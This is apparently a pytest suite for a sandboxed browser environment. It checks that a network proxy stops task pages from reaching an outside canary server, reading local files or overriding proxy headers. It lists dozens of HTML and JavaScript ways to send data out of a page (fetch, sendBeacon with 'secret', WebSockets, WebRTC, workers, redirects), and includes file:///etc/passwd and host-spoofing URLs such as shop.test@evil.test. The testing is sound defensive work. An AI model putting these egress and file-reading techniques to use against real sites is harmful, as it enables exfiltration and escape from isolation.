"""Tests that no request of a page leaves the network proxy, in any way that a browser offers.

A canary, a server outside the task's sites, receives nothing.
"""

import asyncio
import time
from contextlib import suppress

import pytest
from aiohttp import web

from env_adapters.webarena.browser.grammar import PageActionError, parse_action
from env_adapters.webarena.browser.network_proxy import NetworkProxy, SiteAddress, authority
from env_adapters.webarena.browser.snapshot import PageView
from tests.support.web import Player, canary, needs_chromium, page, playing, serving, serving_pages
from verl_agent.errors import EnvError

pytestmark = needs_chromium
LISTEN_S = 0.4
"""Seconds that the canary listens after the page has settled."""

OUT = "http://127.0.0.1:PORT"
WAYS = {
    "link": f"<a href='{OUT}/'>go</a>",
    "link to another name of this machine": "<a href='http://localhost:PORT/'>go</a>",
    "link to this machine by IPv6": "<a href='http://[::1]:PORT/'>go</a>",
    "link that pings": f"<a href='/ok' ping='{OUT}/'>go</a>",
    "link that downloads": f"<a href='{OUT}/x' download>go</a>",
    "form": f"<form method=post action='{OUT}/'><button>go</button></form>",
    "popup": f"<button onclick=\"window.open('{OUT}/')\">go</button>",
    "address of the page": f"<button onclick=\"location='{OUT}/'\">go</button>",
    "refresh": f"<meta http-equiv=refresh content='0;url={OUT}/'>",
    "image": f"<img src='{OUT}/x.png'>",
    "script": f"<script src='{OUT}/x.js'></script>",
    "style": f"<style>@import url('{OUT}/x.css'); @font-face{{font-family:f;src:url('{OUT}/f')}}"
    "p{font-family:f}</style><p>x",
    "frame": f"<iframe src='{OUT}/'></iframe>",
    "object and video": f"<object data='{OUT}/o'></object><embed src='{OUT}/e'><video src='{OUT}/v' autoplay></video>",
    "fetch": f"<script>fetch('{OUT}/', {{mode: 'no-cors'}})</script>",
    "request": f"<script>const r = new XMLHttpRequest(); r.open('POST', '{OUT}/'); r.send('secret')</script>",
    "beacon": f"<script>navigator.sendBeacon('{OUT}/', 'secret')</script>",
    "web socket": "<script>new WebSocket('ws://127.0.0.1:PORT/')</script>",
    "secure web socket": "<script>new WebSocket('wss://127.0.0.1:PORT/')</script>",
    "event source": f"<script>new EventSource('{OUT}/')</script>",
    "worker": f"<script>new Worker(URL.createObjectURL(new Blob([\"importScripts('{OUT}/')\"])))</script>",
    "shared worker": f"<script>new SharedWorker(URL.createObjectURL(new Blob([\"fetch('{OUT}/')\"])))</script>",
    "service worker": "<script>navigator.serviceWorker.register('/worker.js')</script>",
    "preconnect and prefetch": f"<link rel=preconnect href='{OUT}'><link rel=dns-prefetch href='{OUT}'>"
    f"<link rel=prefetch href='{OUT}/p'><link rel=preload as=script href='{OUT}/l'><link rel=icon href='{OUT}/i'>",
    "speculation": '<script type=speculationrules>{"prefetch": [{"source": "list", "urls": ["'
    f'{OUT}/"]}}], "prerender": [{{"source": "list", "urls": ["{OUT}/2"]}}]}}</script>',
    "peer connection": "<script>const p = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:PORT'}]});"
    "p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o))</script>",
    "peer connection over TCP": "<script>const p = new RTCPeerConnection({iceServers: [{username: 'a', credential: 'b',"
    "urls: 'turn:127.0.0.1:PORT?transport=tcp'}]}); p.createDataChannel('x');"
    "p.createOffer().then(o => p.setLocalDescription(o))</script>",
    "web transport": "<script>new WebTransport('https://127.0.0.1:PORT/').ready.catch(() => 0)</script>",
    "data page": f"<iframe src=\"data:text/html,<img src='{OUT}/'>\"></iframe>",
    "script in an address": f"<a href=\"javascript:fetch('{OUT}/', {{mode: 'no-cors'}})\">go</a>",
    "redirect": "<a href='/away'>go</a>",
    "redirect of an image": "<img src='/away'>",
    "redirect by 307 of a form": "<form method=post action='/away'><button>go</button></form>",
}


@pytest.mark.parametrize("way", WAYS)
def test_no_request_leaves_the_network_proxy(way):
    with canary() as outside:
        body = WAYS[way].replace("PORT", str(outside.port))

        async def answer(request):
            if request.path == "/away":
                response = page("")
                response.set_status(307)
                response.headers["Location"] = f"http://127.0.0.1:{outside.port}/"
                return response
            if request.path == "/worker.js":
                script = f"fetch('http://127.0.0.1:{outside.port}/')"
                return page(script).__class__(text=script, content_type="text/javascript")
            return page(f"<h1>Start</h1>{body}" if request.path == "/" else "ok")

        with serving(answer) as port, playing(port) as player:
            if "go</" in body:
                player.do("click <'go'>")
            time.sleep(LISTEN_S)
            assert outside.received() == []


SILENT = {
    "link that pings": "Chromium 156.0.8078.79 sends no ping here; earlier versions did",
    "peer connection": "UDP is switched off in the browser itself",
    "service worker": "the page is no secure context; see the test of permissions, whose page is one",
    "speculation": "headless Chromium does not speculate",
    "web transport": "QUIC is switched off in the browser itself",
}
"""Ways that reach no address even if the proxy allows it, and why: the browser blocks them, not the proxy."""


@pytest.mark.parametrize("way", [way for way in WAYS if way not in SILENT])
def test_canary_receives_requests_that_the_proxy_allows(way):
    """The proxy is what blocks these requests: if it allows them, they reach the canary."""
    with canary() as outside:
        body = WAYS[way].replace("PORT", str(outside.port))

        async def answer(request):
            if request.path == "/away":
                raise web.HTTPTemporaryRedirect(f"http://127.0.0.1:{outside.port}/")
            return page(body)

        with serving(answer) as port:
            player = Player(port, PageView(settle_s=1))  # the canary sends no response: the page never settles
            for name, host in (("127.0.0.1", "127.0.0.1"), ("localhost", "127.0.0.1"), ("::1", "::1")):
                player.session.network_proxy.routes[f"{name}:{outside.port}"] = SiteAddress(host, outside.port)
            try:
                with suppress(EnvError):
                    player.start("/")
                if "go</" in body:
                    elements = player.snapshot.page.elements.items()
                    go = next(key for key, element in elements if "'go'" in element.description)
                    asyncio.run_coroutine_threadsafe(
                        player.session.act(parse_action(f"click [{go}]")), player.browser_pool.loop
                    )
                assert outside.hears_within(10)
            finally:
                player.close()


FILES = (
    "file:///etc/passwd",
    "view-source:file:///etc/passwd",
    "chrome://version",
    "javascript:alert(1)",
    "data:text/html,x",
)


@pytest.mark.parametrize(
    "url", [*FILES, "http://127.0.0.1:PORT/", "http://user@site.test/", "http://site.test:81/", "x"]
)
def test_goto_accepts_only_the_sites_of_the_task(url):
    with canary() as outside, serving_pages({"/": "<h1>Start</h1>"}) as port, playing(port) as player:
        with pytest.raises(PageActionError, match="outside the sites of this task"):
            player.do(f"goto [{url.replace('PORT', str(outside.port))}]")
        assert outside.received() == []


@pytest.mark.parametrize("url", FILES[:3])
def test_page_cannot_open_files_or_internal_pages(url):
    body = f"<a href='{url}'>one</a><button onclick=\"window.open('{url}')\">two</button><iframe src='{url}'></iframe>"
    with serving_pages({"/": f"<h1>Start</h1>{body}"}) as port, playing(port) as player:
        for name in ("one", "two"):
            snapshot = player.do(f"click <'{name}'>")
            assert "Start" in snapshot.text and snapshot.url == "http://site.test/"
        assert not [tab for tab in player.session._tabs if "root:" in player.run(tab.page.content())]


def test_permissions_clipboard_and_service_workers_are_off():
    script = """<p id=a></p><script>(async () => {
      const said = [];
      for (const name of ['geolocation', 'notifications', 'clipboard-read', 'camera', 'microphone'])
        said.push((await navigator.permissions.query({name})).state);
      const asked = [() => navigator.clipboard.readText().then(() => 'read'),
                     () => navigator.serviceWorker.register('/w').then(one => one ? 'on' : 'no')];
      for (const ask of asked) try { said.push(await ask()) } catch { said.push('no') }
      a.textContent = said.join(' ');
    })()</script>"""
    with serving_pages({"/": script, "/w": ""}) as port:
        player = Player(port)
        player.session.network_proxy.routes[f"127.0.0.1:{port}"] = SiteAddress("127.0.0.1", port)
        try:  # the browser treats this address as secure, so that a page may request all of them
            player.run(player.session.start([f"http://127.0.0.1:{port}/"]))
            states = player.run(player.session.page.inner_text("#a")).split()
        finally:
            player.close()
    assert "granted" not in states
    assert states[-2:] == ["no", "no"]


def test_download_is_refused_and_reported():
    async def answer(request):
        if request.path == "/file":
            response = page("secret")
            response.headers["Content-Disposition"] = "attachment; filename=list.csv"
            return response
        return page("<a href=/file>get</a>")

    with serving(answer) as port, playing(port) as player:
        snapshot = player.do("click <'get'>")
        assert snapshot.url == "http://site.test/"
        assert "list.csv" in snapshot.notes[0] and "refused" in snapshot.notes[0]


def test_sessions_are_isolated_from_each_other():
    async def answer(request):
        response = page(f"cookie {request.cookies.get('who')} <script>document.write(localStorage.who)</script>")
        response.set_cookie("who", "first")
        return response

    with serving(answer) as port, playing(port) as first:
        first.run(first.session.page.evaluate("localStorage.who = 'mine'"))
        assert "mine" in first.do("goto [http://site.test/]").text
        with playing(port) as second:
            assert "cookie None" in second.snapshot.text and "mine" not in second.snapshot.text


@pytest.mark.parametrize(
    ("headers", "read", "expected"),
    [
        ("'X-Site-Copy': 'other', 'x-site-copy': 'third'", lambda sent: sent.getall("X-Site-Copy"), ["mine"]),
        # WSGI servers read `X_Site_Copy` as `X-Site-Copy`, or answer 500
        ("'X_Site_Copy': 'other', 'my_name': 'x'", lambda sent: [name for name in sent if "_" in name], []),
    ],
)
def test_page_cannot_override_the_headers_of_its_site(headers, read, expected):
    """Only the proxy sets the header that selects a copy of a site."""
    received = []

    async def answer(request):
        received.append(read(request.headers))
        return page(f"<script>fetch('/again', {{headers: {{{headers}}}}})</script>")

    with serving(answer) as port:
        player = Player(port)
        player.session.network_proxy.routes["site.test:80"] = SiteAddress("127.0.0.1", port, {"X-Site-Copy": "mine"})
        try:
            player.start("/")
        finally:
            player.close()
    assert len(received) >= 2 and all(values == expected for values in received)


EVERY_KIND = """<link rel=stylesheet href=/style><script src=/script></script><img src=/image>
<iframe src=/frame></iframe>
<script>
fetch('/fetch', {method: 'POST', body: 'x'}); navigator.sendBeacon('/beacon', 'x');
new Worker(URL.createObjectURL(new Blob(["importScripts('http://site.test/worker')"])));
new WebSocket('ws://site.test/socket'); new EventSource('/events');
</script><a href=/next target=_blank>next</a>"""


def test_proxy_serves_only_the_browser_of_its_session():
    """Another process of the machine that finds the port gets nothing from a site, in both forms of a request."""
    received = []

    async def answer(request):
        received.append(request.path)
        return page(EVERY_KIND if request.path == "/" else "ok")

    async def ask(port, request):
        reader, writer = await asyncio.open_connection("127.0.0.1", port)
        writer.write(request.encode() + b"\r\n\r\n")
        response = await asyncio.wait_for(reader.read(), 5)
        writer.close()
        return response

    with serving(answer) as port, playing(port) as player:
        player.do("click <'next'>")
        time.sleep(LISTEN_S)
        kinds = {"/", "/style", "/script", "/image", "/frame", "/fetch", "/beacon", "/worker", "/socket", "/events"}
        assert set(received) - {"/favicon.ico"} == kinds | {"/next"}, "the browser is not served"
        before = len(received)
        proxy_port = int(player.session.network_proxy.url.rpartition(":")[2])
        for request in ("GET http://site.test/ HTTP/1.1\r\nHost: site.test", "CONNECT site.test:80 HTTP/1.1"):
            for credentials in ("", "\r\nProxy-Authorization: Basic c2Vzc2lvbjp4"):
                assert asyncio.run(ask(proxy_port, request + credentials)).startswith(b"HTTP/1.1 407 ")
        assert len(received) == before


@pytest.mark.parametrize("path", ["", "/#part", "/?q=[a]*\u00e9 b", "/moved"])
def test_start_page_may_have_any_form_of_url(path):
    """Chromium writes some URLs in another way, and a site may redirect; the browser still logs in."""

    async def answer(request):
        if request.path == "/moved":
            raise web.HTTPFound("/")
        return page("<h1>Start</h1>")

    with serving(answer) as port, playing(port, path) as player:
        assert "Start" in player.snapshot.text


def test_site_does_not_receive_the_secret_of_the_proxy():
    received = []

    async def answer(request):
        received.append([name for name in request.headers if name.lower().startswith("proxy")])
        return page("<script>fetch('/again')</script>")

    with serving(answer) as port, playing(port):
        assert len(received) >= 2 and not any(received)


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("http://Shop.test/x", "shop.test:80"),
        ("https://shop.test", "shop.test:443"),
        ("http://shop.test:8080", "shop.test:8080"),
        ("http://shop.test@evil.test/", ""),
        ("http://shop.test:99999/", ""),
        ("file:///etc/passwd", ""),
        ("//shop.test/", ""),
    ],
)
def test_authority_of_a_url(url, expected):
    assert authority(url) == expected


def test_proxy_allows_only_its_sites():
    proxy = NetworkProxy({"shop.test:80": SiteAddress("127.0.0.1", 1)})
    assert proxy.allows("http://shop.test/cart")
    assert not proxy.allows("ftp://shop.test:80/")
    assert not proxy.allows("http://shop.test.evil.test/")


@pytest.mark.parametrize("url", ["http://[", "http://[]", "http://[]/x", "http://a:b", "http://:80", "", "shop.test"])
def test_a_url_without_a_valid_authority_is_outside_the_sites(url):
    assert not NetworkProxy({"shop.test:80": ("127.0.0.1", 1)}).allows(url)
